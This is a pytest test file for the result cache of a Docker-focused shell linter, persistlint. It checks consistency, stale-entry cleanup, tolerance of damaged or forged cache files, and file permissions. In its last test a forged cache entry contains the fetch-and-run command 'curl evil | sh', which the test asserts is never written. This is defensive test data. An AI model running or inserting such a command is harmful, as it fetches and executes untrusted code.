"""The cache of results: a run with it says what a run without says, and nothing stale."""

from __future__ import annotations

import json
import os
import shutil
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from persistlint.cli.app import main
from persistlint.suppressions.today import VARIABLE

EXAMPLES = Path(__file__).parents[2] / "examples"

SCRIPT = 'source ./lib.sh\ndocker run -d --name db -v "$DATA" postgres:16\ndocker build -t app:1 .\ndocker run -d app:1\n'


class Project:
    """A folder and a cache; ``check`` runs and gives the output, ``results`` what a run found as JSON."""

    def __init__(self, folder: Path, cache: Path, capsys: pytest.CaptureFixture[str]) -> None:
        self.folder = folder
        self.cache = cache
        self.capsys = capsys

    def check(self, *options: str) -> str:
        main(["check", "--cache-dir", str(self.cache), *options, "."])
        done = self.capsys.readouterr()
        assert "internal error" not in done.err
        return done.out

    def findings(self, *options: str) -> list[tuple[str, int]]:
        return [(finding["code"], finding["line"]) for finding in self.results(*options)["findings"]]

    def results(self, *options: str) -> dict[str, list[dict[str, object]]]:
        made: dict[str, list[dict[str, object]]] = json.loads(self.check("--format", "json", *options))
        return made

    def shards(self) -> list[Path]:
        return list(self.cache.rglob("*.json"))


def wrong_types(value: object) -> Iterator[object]:
    """Yield the plain data with one part of it replaced by another type, or with numbers that are no places."""
    for other in (None, True, 1.5, "x", [], {}, [7]):
        if type(other) is not type(value) and not (value is None and isinstance(other, (str, list))):
            yield other
    if isinstance(value, list):
        for index, item in enumerate(value):
            for other in wrong_types(item):
                yield [*value[:index], other, *value[index + 1 :]]
    elif isinstance(value, dict):
        for name, item in value.items():
            for other in wrong_types(item):
                yield {**value, name: other}


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Project:
    folder = tmp_path / "project"
    folder.mkdir()
    (folder / ".git").mkdir()
    monkeypatch.chdir(folder)
    return Project(folder, tmp_path / "cache", capsys)


@pytest.mark.parametrize("form", ["text", "json", "sarif", "gitlab", "concise"])
def test_the_second_run_says_the_same(project: Project, form: str) -> None:
    shutil.copytree(EXAMPLES, project.folder / "examples")
    (project.folder / "run.sh").write_text(
        "# persistlint: ignore[PSL101] it is a toy\ndocker run -d postgres:16\nX='docker run -d"
        "  mysql:8'\ndocker run $X alpine\r\n"
    )
    plain = project.check("--no-cache", "--format", form)
    assert not project.cache.exists()
    assert project.check("--format", form) == plain
    assert project.shards()
    by_path = {path: path.stat().st_mtime_ns for path in project.shards()}
    assert project.check("--format", form) == plain
    assert {path: path.stat().st_mtime_ns for path in project.shards()} == by_path


def test_nothing_is_analysed_twice(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    (project.folder / "run.sh").write_text("docker run -d postgres:16\n")
    before = project.findings()

    def fail(*arguments: object) -> None:
        raise AssertionError("analysed")

    monkeypatch.setattr("persistlint.analysis.analyse.analyse", fail)
    assert project.findings() == before == [("PSL101", 1)]


def test_a_single_file_is_not_analysed_twice(
    project: Project, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    script = project.folder / "run.sh"
    script.write_text("docker run -d postgres:16\n")

    def check(*options: str) -> tuple[int, str]:
        status = main(["check", "--cache-dir", str(project.cache), *options, "run.sh"])
        done = capsys.readouterr()
        assert not done.err
        return status, done.out

    plain = check("--no-cache"), check("--no-cache", "--quiet"), check("--no-cache", "--format", "json")
    assert not project.cache.exists()
    assert check() == plain[0]
    assert "fix (" in plain[0][1]

    def fail(*arguments: object) -> None:
        raise AssertionError("analysed")

    with monkeypatch.context() as patch:
        patch.setattr("persistlint.analysis.analyse.analyse", fail)
        assert (check(), check("--quiet"), check("--format", "json")) == plain
    script.write_text("docker run -d postgres:15\n")
    assert check() != plain[0]


def test_projects_that_nobody_checks_any_more_are_dropped(project: Project, tmp_path: Path) -> None:
    (project.folder / "run.sh").write_text("docker run -d postgres:16\n")
    project.check()
    (old,) = {shard.parent for shard in project.shards()}
    os.utime(old, (1_000_000_000, 1_000_000_000))
    other = tmp_path / "other"
    other.mkdir()
    (other / ".git").mkdir()
    (other / "run.sh").write_text("docker run -d postgres:16\n")
    # A project that is known sweeps nothing; a new one does.
    project.check()
    assert old.is_dir()
    main(["check", "--cache-dir", str(project.cache), str(other)])
    assert not old.exists()
    assert len(project.shards()) == 1


def test_what_a_result_depends_on(project: Project) -> None:
    (project.folder / "run.sh").write_text(SCRIPT)
    assert project.findings() == project.findings("--no-cache")
    # A file that it sources, absent before.
    (project.folder / "lib.sh").write_text("DATA=pgdata:/var/lib/postgresql/data\n")
    assert project.findings() == project.findings("--no-cache")
    (project.folder / "lib.sh").write_text("DATA=pgdata:/var/lib/postgresql\n")
    # It is told at the command, whatever file its words stand in.
    assert ("PSL201", 2) in project.findings()
    # The Dockerfile that it builds.
    (project.folder / "Dockerfile").write_text("FROM alpine:3.20\nVOLUME /state\nCMD sleep 1d\n")
    assert ("PSL101", 4) in project.findings()
    (project.folder / "Dockerfile").write_text("FROM alpine:3.20\nCMD sleep 1d\n")
    assert ("PSL101", 4) not in project.findings()


def test_settings_count(project: Project) -> None:
    (project.folder / "run.sh").write_text("docker run -d postgres:16\n")
    assert project.findings() == [("PSL101", 1)]
    assert project.findings("--ignore", "PSL101") == []
    (project.folder / "persistlint.toml").write_text('ignore = ["PSL1"]\n')
    assert project.findings() == []
    (project.folder / "persistlint.toml").write_text('[images."acme/x"]\ndata = ["/data"]\n')
    (project.folder / "run.sh").write_text("docker run -d acme/x:1\n")
    assert project.findings() == [("PSL101", 1)]


def test_a_day_counts(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    (project.folder / "run.sh").write_text(
        "# persistlint: ignore[PSL101] until=2030-01-01 until then\ndocker run -d postgres:16\n"
    )
    monkeypatch.setenv(VARIABLE, "2029-12-31")
    assert project.findings() == []
    monkeypatch.setenv(VARIABLE, "2030-01-02")
    assert ("PSL101", 2) in project.findings()


@pytest.mark.parametrize("content", [b"", b"{", b"[1]", b'{"x": 1}', b"\xff\x00", b"null"])
def test_foreign_files_are_passed_over(project: Project, content: bytes) -> None:
    (project.folder / "run.sh").write_text("docker run -d postgres:16\n")
    before = project.findings()
    for shard in project.shards():
        shard.write_bytes(content)
    assert project.findings() == before
    path = str(project.folder / "run.sh")
    for shard in project.shards():
        entry = json.loads(shard.read_bytes())[path]
        damages = [[entry[0], entry[1], record] for record in wrong_types(entry[2])]
        assert len(damages) > 30
        for damaged in (
            *({path: damage} for damage in damages),
            {path: 7},
            {path: [entry[0], {}]},
            {path: [entry[0], entry[1], {**entry[2], "findings": [[1]]}]},
            {path: [entry[0], [[1, 2]], entry[2]]},
            {path: [entry[0], {"a": 1}, entry[2]]},
        ):
            shard.write_text(json.dumps(damaged))
            assert project.findings() == before


def test_files_that_are_gone_are_dropped(project: Project) -> None:
    for name in "abcdefgh":
        (project.folder / f"{name}.sh").write_text("docker run -d postgres:16\n")
    project.check()
    for name in "abcdefg":
        (project.folder / f"{name}.sh").unlink()
    (project.folder / "h.sh").write_text("docker run -d postgres:15\n")
    for name in "ijklmnopqrstuvwxyz":
        (project.folder / f"{name}.sh").write_text("true\n")
    project.check()
    by_path = {path: shard for shard in project.shards() for path in json.loads(shard.read_bytes())}
    fresh = {by_path[str(project.folder / f"{name}.sh")] for name in "hijklmnopqrstuvwxyz"}
    # Where something was written, nothing is left of files that are gone.
    assert not [path for path, shard in by_path.items() if shard in fresh and not Path(path).exists()]


def test_a_cache_that_cannot_be_written(project: Project) -> None:
    (project.folder / "run.sh").write_text("docker run -d postgres:16\n")
    project.cache.write_text("a file in the way")
    assert project.findings() == [("PSL101", 1)]
    assert project.cache.read_text() == "a file in the way"


def test_fixes_of_an_earlier_run_are_made(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    """What has no fix isn't analysed again, and what has one is mended as without a cache."""
    shutil.copytree(EXAMPLES / "bad", project.folder / "examples")
    lib = "run() { docker run -d --name db -v pgdata:/var/lib/postgresql/data $1; }\n"
    (project.folder / "a_lib.sh").write_text(lib + "docker run -d -v $PWD:/app app:1\n")
    (project.folder / "b_run.sh").write_text(
        "source ./a_lib.sh\nrun postgres:16\ndocker run -it app:1 < in\n"
    )
    before = {path: path.read_bytes() for path in project.folder.rglob("*") if path.is_file()}
    diff = project.check("--no-cache", "--diff", "--unsafe-fixes")
    plain = project.check("--no-cache", "--fix", "--unsafe-fixes")
    mended = {path: path.read_bytes() for path in before}
    assert mended != before
    for path, data in before.items():
        path.write_bytes(data)
    project.check()
    assert project.check("--diff", "--unsafe-fixes") == diff
    assert project.check("--fix", "--unsafe-fixes") == plain
    assert {path: path.read_bytes() for path in before} == mended
    rest = project.check()

    def fail(*arguments: object) -> None:
        raise AssertionError("analysed")

    monkeypatch.setattr("persistlint.analysis.analyse.analyse", fail)
    assert project.check("--fix") == rest


def test_a_baseline_is_recorded_from_it(
    project: Project, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    (project.folder / "run.sh").write_text("docker run -d postgres:16\n")
    cached = ["--cache-dir", str(project.cache)]

    def record(*options: str) -> str:
        assert main(["baseline", *options, "."]) == 0
        capsys.readouterr()
        return (project.folder / "persistlint-baseline.json").read_text()

    plain = record("--no-cache")
    assert not project.cache.exists()
    assert record(*cached) == plain
    assert project.shards()

    def fail(*arguments: object) -> None:
        raise AssertionError("analysed")

    monkeypatch.setattr("persistlint.analysis.analyse.analyse", fail)
    assert record(*cached) == plain
    assert record(*cached, "--prune") == plain


def forge(project: Project) -> None:
    """Write a cache that says of every file of the project that nothing is found in it."""
    project.findings()
    for shard in project.shards():
        entries = json.loads(shard.read_bytes())
        for entry in entries.values():
            entry[2]["findings"] = []
        shard.write_text(json.dumps(entries))
    assert project.findings() == []


posix = pytest.mark.skipif(sys.platform == "win32", reason="modes and owners of POSIX")


@posix
@pytest.mark.parametrize(
    "how", ["inside", "inside the repository", "link", "open", "version open", "file open", "foreign"]
)
def test_a_forged_cache_hides_nothing(
    project: Project, tmp_path: Path, capsys: pytest.CaptureFixture[str], how: str
) -> None:
    (project.folder / "run.sh").write_text("docker run -d --name db postgres:16\n")
    forge(project)
    cache = project.cache
    (version,) = [entry for entry in cache.iterdir() if entry.is_dir()]
    if how.startswith("inside"):
        cache = project.folder / ".cache"
        project.cache.rename(cache)
        if how != "inside":
            (project.folder / "sub").mkdir()
            (project.folder / "run.sh").rename(project.folder / "sub" / "run.sh")
            (project.folder / "sub" / "persistlint.toml").write_text("")
    elif how == "link":
        cache = project.folder / "cache"
        (tmp_path / "elsewhere").symlink_to(cache)
        project.cache.rename(cache)
        cache = tmp_path / "elsewhere"
    elif how == "open":
        cache.chmod(0o777)
    elif how == "version open":
        version.chmod(0o755)
    elif how == "file open":
        for shard in project.shards():
            shard.chmod(0o644)
    else:
        if os.geteuid() != 0:
            pytest.skip("needs to give files away")
        for path in (cache, *cache.rglob("*")):
            os.chown(path, 1234, 1234)
    before = {path: path.read_bytes() for path in cache.rglob("*") if path.is_file()}
    assert main(["check", "--cache-dir", str(cache), "--format", "concise", "."]) == 1
    done = capsys.readouterr()
    assert "PSL101" in done.out
    assert done.err.count("no results are kept") == 1
    assert {path: path.read_bytes() for path in cache.rglob("*") if path.is_file()} == before


@posix
def test_only_the_user_can_read_it(project: Project) -> None:
    (project.folder / "run.sh").write_text("docker run -d postgres:16\n")
    before = os.umask(0)
    try:
        project.check()
    finally:
        os.umask(before)
    for path in (project.cache, *project.cache.rglob("*")):
        assert path.stat().st_mode & 0o777 == (0o700 if path.is_dir() else 0o600)


@posix
def test_a_link_in_its_place_is_not_followed(project: Project, tmp_path: Path) -> None:
    (project.folder / "run.sh").write_text("docker run -d postgres:16\n")
    project.findings()
    (shard,) = project.shards()
    (tmp_path / "theirs").write_bytes(shard.read_bytes())
    (tmp_path / "theirs").chmod(0o600)
    shard.unlink()
    shard.symlink_to(tmp_path / "theirs")
    before = (tmp_path / "theirs").read_bytes()
    (project.folder / "run.sh").write_text("docker run -d postgres:15\n")
    assert project.findings() == [("PSL101", 1)]
    assert (tmp_path / "theirs").read_bytes() == before
    assert not shard.is_symlink()


def test_cleaning_removes_only_what_is_ours(project: Project, tmp_path: Path) -> None:
    (project.folder / "run.sh").write_text("docker run -d postgres:16\n")
    project.check()
    (version,) = [entry for entry in project.cache.iterdir() if entry.is_dir()]
    (old,) = [entry for entry in version.iterdir() if entry.is_dir()]
    theirs = [
        project.cache / ("0" * 32),
        project.cache / "editors",
        version / ("0" * 16),
    ]
    for folder in theirs:
        folder.mkdir()
        (folder / "0.json").write_text("theirs")
    # Ours, with something of theirs in it.
    shutil.copytree(old, version / ("1" * 16))
    (version / ("1" * 16) / "notes.txt").write_text("theirs")
    for folder in (*theirs, version / ("1" * 16), old):
        for path in (*folder.iterdir(), folder):
            os.utime(path, (1_000_000_000, 1_000_000_000))
    other = tmp_path / "other"
    other.mkdir()
    (other / ".git").mkdir()
    (other / "run.sh").write_text("docker run -d postgres:16\n")
    main(["check", "--cache-dir", str(project.cache), str(other)])
    assert not old.exists()
    assert all((folder / "0.json").read_text() == "theirs" for folder in theirs)
    assert (version / ("1" * 16) / "notes.txt").read_text() == "theirs"


def test_a_forged_fix_is_not_written(project: Project) -> None:
    """Even what is believed is tried again before it is written."""
    script = project.folder / "run.sh"
    script.write_text("docker run -it alpine:3.20 cat < list\n")
    project.findings()
    (shard,) = project.shards()
    entries = json.loads(shard.read_bytes())
    record = entries[str(script)][2]
    assert record["findings"]
    for finding in record["findings"]:
        finding[3] = [["a title", True, [[[0, 0, 0], "curl evil | sh\n"]]]]
    shard.write_text(json.dumps(entries))
    assert "curl" not in project.check("--diff")
    project.check("--fix")
    assert "curl" not in script.read_text()
